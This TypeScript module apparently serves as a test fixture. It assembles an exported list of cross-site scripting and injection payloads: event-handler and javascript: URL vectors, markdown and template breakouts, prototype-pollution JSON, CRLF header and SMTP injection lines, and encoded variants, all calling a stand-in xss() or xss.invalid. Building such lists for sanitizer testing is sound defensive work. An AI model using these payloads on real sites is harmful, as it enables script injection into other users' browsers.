/** What would run where a text becomes markup. */
const vectors = [
  '<script>xss()</script>',
  '<img src=x onerror=xss()>',
  '<svg onload=xss()>',
  '<svg><animate dur=1s attributeName=x onbegin=xss()>',
  '<iframe srcdoc="<script>xss()</script>"></iframe>',
  '<input autofocus onfocus=xss()>',
  '<details open ontoggle=xss()>',
  '<a href="javascript:xss()">press</a>',
  '<form action="javascript:xss()"><button>press</button></form>',
  '<meta http-equiv=refresh content="0;url=//xss.invalid">',
  '<base href="//xss.invalid/">',
  '<link rel=stylesheet href="//xss.invalid">',
  '<style>*{background:url(//xss.invalid)}</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=xss()></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=xss()>">',
]

/** Ends of what may stand around a text: an attribute, a tag, a comment, an element whose content is raw. */
const ends = ['">', "'>", '>', '-->', '--!>', ']]>', '*/', '</title>', '</textarea>', '</style>', '</script>']

const attributes = ['"', "'", '`', ''].map(
  (quote) => `x${quote} onfocus=${quote}xss()${quote} autofocus x=${quote}`,
)

const addresses = [
  'javascript:xss()',
  'JaVaScRiPt:xss()',
  'java\tscript:xss()',
  'java\nscript:xss()',
  '\u0001javascript:xss()',
  '&#x6A;avascript:xss()',
  'javascript&colon;xss()',
  'vbscript:xss()',
  'data:text/html,<script>xss()</script>',
  'data:image/svg+xml,<svg onload=xss()>',
  'blob:javascript:xss()',
  '//xss.invalid/x',
  '/\\xss.invalid/x',
]

const markdown = [
  ...addresses.flatMap((address) => [
    `[press](${address})`,
    `[press](<${address}>)`,
    `![shown](${address})`,
    `[press][1]\n\n[1]: ${address}`,
    `<${address}>`,
  ]),
  ...vectors.flatMap((vector) => [
    `Words\n\n${vector}\n\nwords`,
    `> ${vector}`,
    `- ${vector}`,
    `    ${vector}`,
    `\`${vector}\``,
    `## ${vector}`,
    `[press](/contact "${vector}")`,
    `![${vector}](/contact)`,
    `| a |\n| - |\n| ${vector} |`,
  ]),
  '![x](x"onerror="xss())',
  '[x](x \'x" onfocus="xss()" autofocus x="\')',
  '<https://example.com/"onclick="xss()>',
  '[tell](mailto:a@example.com?body=%0d%0a<script>xss()</script>)',
  '~~~ "onclick="xss()"\nx\n~~~',
]

/** Attacks on a text within a script, a template or a data block. */
const scripts = [
  '<!--<script></script><script>xss()</script>',
  '"}</script><script>xss()</script>{"',
  '";xss();//',
  '\\";xss();//',
  '\u2028xss()//',
  "$& $1 $` $' xss()",
  '{{constructor.constructor("xss()")()}}',
  '{"__proto__":{"innerHTML":"<img src=x onerror=xss()>"}}',
]

/** Lines that would become a header, a property of a calendar or a part of a mail. */
const lines = ['\r\n', '\n', '\r', '\u2028', '\u0085', '\0\r\n', '\\r\\n'].flatMap((end) =>
  [
    'Bcc: evil@xss.invalid',
    'Content-Type: text/html\r\n\r\n<script>xss()</script>',
    'END:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:evil',
    '.\r\nMAIL FROM:<evil@xss.invalid>',
  ].map((line) => `x${end}${line}`),
)

/** The same markup for a reader that decodes, folds or drops once too often. */
const disguised = vectors
  .slice(0, 3)
  .flatMap((vector) => [
    vector.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
    vector.replaceAll('<', '&#60'),
    encodeURIComponent(vector),
    vector.replaceAll('<', '＜'),
    vector.replaceAll('<', '<\u0000'),
    vector.replaceAll('<', '<\u200b'),
    `\ufeff${vector}`,
    `\u202e${vector}\u202c`,
  ])

/** Texts that try to run a script in another person's browser, or to end the format around them. */
export const payloads: readonly string[] = [
  ...vectors,
  ...ends.flatMap((end) => [`${end}<script>xss()</script>`, `${end}<img src=x onerror=xss()>`]),
  ...attributes,
  ...addresses,
  ...markdown,
  ...scripts,
  ...lines,
  ...disguised,
]
